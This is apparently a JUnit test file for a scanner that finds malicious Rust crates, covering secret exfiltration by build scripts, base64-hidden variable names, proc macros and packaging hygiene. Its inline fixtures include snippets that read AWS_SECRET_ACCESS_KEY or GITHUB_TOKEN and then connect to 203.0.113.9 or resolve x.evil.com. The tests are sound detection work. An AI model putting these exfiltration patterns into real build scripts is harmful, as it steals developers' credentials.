package dev.warden.evaluate.scan;

import dev.warden.core.Evidence;
import dev.warden.core.Finding;
import dev.warden.core.Severity;
import dev.warden.evaluate.source.CrateArchive;
import dev.warden.evaluate.source.CrateDirectory;
import dev.warden.evaluate.source.TreeLimits;
import dev.warden.testing.AttackCrates;
import dev.warden.testing.CrateFiles;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;

import static dev.warden.testing.Fixtures.write;
import static org.assertj.core.api.Assertions.assertThat;

class CrateScannerTest {

    @TempDir
    Path dir;

    private CrateScan scan(Path crate) {
        return CrateScanner.scan(CrateDirectory.read(crate, TreeLimits.DEFAULT), false, null);
    }

    private static int lineOf(String text, String needle) {
        List<String> lines = text.lines().toList();
        for (int i = 0; i < lines.size(); i++) {
            if (lines.get(i).contains(needle)) {
                return i + 1;
            }
        }
        throw new AssertionError(needle);
    }

    private static List<String> ids(CrateScan scan) {
        return scan.findings().stream().map(f -> f.id() + ":" + f.severity().label()).toList();
    }

    private static Finding only(CrateScan scan, String id) {
        return scan.findings().stream().filter(f -> f.id().equals(id)).findFirst().orElseThrow();
    }

    @Test
    void theSeedPayloadIsCriticalWithLineEvidence() {
        AttackCrates.urlParse(dir, AttackCrates.EXFILTRATING_BUILD_SCRIPT);
        CrateScan scan = scan(dir);
        assertThat(scan.name()).isEqualTo("url-parse");
        assertThat(scan.hasBuildScript()).isTrue();
        Finding critical = only(scan, "exfiltration-pattern");
        assertThat(critical.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(critical.message()).contains("build script", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN",
                "resolves hostnames");
        assertThat(critical.evidence()).extracting(Evidence::toString)
                .contains("build.rs:" + lineOf(AttackCrates.EXFILTRATING_BUILD_SCRIPT, "\"AWS_SECRET_ACCESS_KEY\""),
                        "build.rs:" + lineOf(AttackCrates.EXFILTRATING_BUILD_SCRIPT, "host.to_socket_addrs()"));
        assertThat(ids(scan)).contains("reads-secret-env:high", "network-access:high", "encodes-data:medium");
        assertThat(scan.capabilities()).extracting(Capability::toString)
                .contains("build script: reads AWS_SECRET_ACCESS_KEY", "build script: resolves hostnames");
    }

    @Test
    void concatenatedNamesAndNslookupAreCaughtToo() {
        AttackCrates.urlParse(dir, AttackCrates.CONCATENATING_BUILD_SCRIPT);
        CrateScan scan = scan(dir);
        Finding critical = only(scan, "exfiltration-pattern");
        assertThat(critical.message()).contains("AWS_SECRET_ACCESS_KEY (assembled from pieces)", "runs nslookup");
        assertThat(ids(scan)).contains("spawns-network-tool:high", "reads-secret-env:high");
    }

    @Test
    void aProcMacroPayloadIsCaught() {
        AttackCrates.urlParseMacro(dir);
        CrateScan scan = scan(dir);
        assertThat(scan.procMacro()).isTrue();
        assertThat(only(scan, "exfiltration-pattern").message()).startsWith("the proc macro reads GITHUB_TOKEN");
    }

    @Test
    void base64HiddenNamesAreDecoded() {
        AttackCrates.urlParse(dir, """
                fn main() {
                    let raw = "QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZ";
                    let name = String::from_utf8(decode(raw)).unwrap();
                    let v = std::env::var(name).unwrap();
                    let _ = std::net::TcpStream::connect(("203.0.113.9", 443));
                }
                fn decode(_: &str) -> Vec<u8> { Vec::new() }
                """);
        CrateScan scan = scan(dir);
        assertThat(only(scan, "obfuscated-literal").message()).contains("AWS_SECRET_ACCESS_KEY");
        assertThat(only(scan, "exfiltration-pattern").message()).contains("opens network connections");
    }

    @Test
    void libraryCodeIsJudgedByWhereItRuns() {
        write(dir, "Cargo.toml", "[package]\nname = \"client\"\nversion = \"1.0.0\"\n");
        write(dir, "src/lib.rs", """
                pub fn fetch(host: &str) -> std::io::Result<std::net::TcpStream> {
                    let token = std::env::var("API_TOKEN").ok();
                    std::net::TcpStream::connect(host)
                }
                """);
        write(dir, "tests/smoke.rs", "fn t() { std::process::Command::new(\"curl\"); }\n");
        CrateScan scan = scan(dir);
        assertThat(ids(scan)).containsExactly("reads-secret-env:medium");
        assertThat(scan.capabilities()).extracting(Capability::toString)
                .contains("library: opens network connections", "library: reads API_TOKEN");
    }

    @Test
    void benignBuildScriptsAreNotAlarming() {
        write(dir, "Cargo.toml", "[package]\nname = \"sys\"\nversion = \"1.0.0\"\nlinks = \"z\"\n");
        write(dir, "build.rs", """
                use std::env;
                use std::process::Command;
                fn main() {
                    let target = env::var("TARGET").unwrap();
                    let out = env::var_os("OUT_DIR").unwrap();
                    let rustc = env::var("RUSTC").unwrap_or_else(|_| "rustc".into());
                    let version = Command::new(rustc).arg("--version").output();
                    let cc = env::var(format!("CC_{}", target.replace('-', "_")));
                    println!("cargo:rustc-link-lib=z");
                    println!("cargo:rerun-if-env-changed=CFLAGS");
                }
                """);
        CrateScan scan = scan(dir);
        assertThat(scan.findings()).allMatch(f -> f.severity().compareTo(Severity.MEDIUM) < 0);
        assertThat(ids(scan)).contains("spawns-process:info");
    }

    @Test
    void buildScriptModulesCountAsBuildScript() {
        write(dir, "Cargo.toml", "[package]\nname = \"m\"\nversion = \"1.0.0\"\nbuild = \"tools/build.rs\"\n");
        write(dir, "tools/build.rs", "mod probe;\n#[path = \"net/helper.rs\"]\nmod helper;\nfn main() { probe::run(); }\n");
        write(dir, "tools/probe.rs", "pub fn run() { let _ = std::env::var(\"GITHUB_TOKEN\"); }\n");
        write(dir, "tools/net/helper.rs", "pub fn go() { let _ = \"x.evil.com:53\".to_socket_addrs(); }\n");
        CrateScan scan = scan(dir);
        assertThat(only(scan, "exfiltration-pattern").evidence()).extracting(Evidence::file)
                .contains("tools/probe.rs", "tools/net/helper.rs");
    }

    @Test
    void gitignoreStylePackagingRules() {
        assertThat(GitignoreGlob.matches("src/**", "src/a/b.rs")).isTrue();
        assertThat(GitignoreGlob.matches("*.rs", "src/deep/x.rs")).isTrue();
        assertThat(GitignoreGlob.matches("/tests", "tests/a.rs")).isTrue();
        assertThat(GitignoreGlob.matches("/tests", "src/tests/a.rs")).isFalse();
        assertThat(GitignoreGlob.matches("docs/", "docs/x.md")).isTrue();
        assertThat(GitignoreGlob.matches("docs/", "docs")).isFalse();
        assertThat(GitignoreGlob.matches("src/*.rs", "src/a/b.rs")).isFalse();
    }

    @Test
    void packagingHygieneOfAPublishedCrate() {
        byte[] elf = {0x7F, 'E', 'L', 'F', 2, 1, 1, 0};
        Path crate = CrateFiles.write(dir.resolve("shady-1.0.0.crate"), tar -> {
            CrateFiles.file(tar, "shady-1.0.0/Cargo.toml", """
                    [package]
                    name = "shady"
                    version = "1.0.0"
                    include = ["src/**", "Cargo.toml", "tools/**"]
                    """);
            CrateFiles.file(tar, "shady-1.0.0/src/lib.rs", "pub fn f() {}\n");
            CrateFiles.file(tar, "shady-1.0.0/src/payload.bin", elf, 0644);
            CrateFiles.file(tar, "shady-1.0.0/tools/gen.pl", "#! /usr/bin/perl -w\nprint 1;\n".getBytes(), 0644);
            CrateFiles.file(tar, "shady-1.0.0/tools/fetch.sh", "#!/usr/bin/env -S bash -e\ncurl x\n".getBytes(), 0755);
            CrateFiles.file(tar, "shady-1.0.0/src/run", "data\n".getBytes(), 0755);
            CrateFiles.file(tar, "shady-1.0.0/secrets.txt", "hunter2\n");
            CrateFiles.link(tar, "shady-1.0.0/src/alias.rs", "lib.rs", false);
        });
        CrateScan scan = CrateScanner.scan(CrateArchive.read(crate, TreeLimits.DEFAULT), true, null);
        assertThat(ids(scan)).containsExactlyInAnyOrder("crate-binary-file:medium", "crate-script-file:low",
                "crate-executable-file:low", "crate-unexpected-file:low", "crate-contains-link:medium",
                "crate-without-vcs-info:info");
        assertThat(only(scan, "crate-binary-file").message()).isEqualTo("src/payload.bin is binary (ELF executable)");
        Finding scripts = only(scan, "crate-script-file");
        assertThat(scripts.message()).isEqualTo("ships 2 scripts run by bash, perl");
        assertThat(scripts.evidence()).extracting(Evidence::toString)
                .containsExactly("tools/fetch.sh:1", "tools/gen.pl:1");
        assertThat(only(scan, "crate-executable-file").message()).isEqualTo("ships 1 file marked executable: src/run");
        assertThat(only(scan, "crate-unexpected-file").message())
                .isEqualTo("ships 1 file its own include/exclude rules would not package: secrets.txt");
        assertThat(only(scan, "crate-contains-link").message()).isEqualTo("src/alias.rs is a symbolic link to lib.rs");

        // The same files unpacked by the developer (not a published package): packaging rules do not apply.
        CrateScan local = CrateScanner.scan(CrateArchive.read(crate, TreeLimits.DEFAULT), false, null);
        assertThat(ids(local)).doesNotContain("crate-unexpected-file:low", "crate-without-vcs-info:info");
    }

    @Test
    void interpretersAreNamedFromTheirShebang() {
        assertThat(CrateScanner.interpreter("#!/usr/bin/env python2")).isEqualTo("python2");
        assertThat(CrateScanner.interpreter("#! /usr/bin/perl -w")).isEqualTo("perl");
        assertThat(CrateScanner.interpreter("#!/usr/bin/env -S bash -e")).isEqualTo("bash");
        assertThat(CrateScanner.interpreter("#!/bin/sh")).isEqualTo("sh");
    }

    @Test
    void aPackagesFilesAreWhatCargoPackageWouldShip() {
        write(dir, "Cargo.toml", "[package]\nname = \"tool\"\nversion = \"1.0.0\"\nexclude = [\"HomebrewFormula\"]\n");
        write(dir, "src/lib.rs", "pub fn f() {}\n");
        write(dir, "HomebrewFormula/gen.rs", "fn x() { let _ = std::env::var(\"GITHUB_TOKEN\"); }\n");
        write(dir, "vendor/evil/Cargo.toml", "[package]\nname = \"evil\"\nversion = \"0.1.0\"\n");
        write(dir, "vendor/evil/build.rs", AttackCrates.EXFILTRATING_BUILD_SCRIPT);
        write(dir, "vendor/evil/.cargo-checksum.json", "{}");
        CrateScan root = scan(dir);
        assertThat(root.name()).isEqualTo("tool");
        assertThat(root.findings()).isEmpty();
        assertThat(root.hasBuildScript()).isFalse();
        CrateScan vendored = CrateScanner.scan(CrateDirectory.read(dir.resolve("vendor/evil"), TreeLimits.DEFAULT),
                true, null);
        assertThat(ids(vendored)).contains("exfiltration-pattern:critical").noneMatch(id -> id.startsWith(
                "crate-unexpected-file"));
    }
}
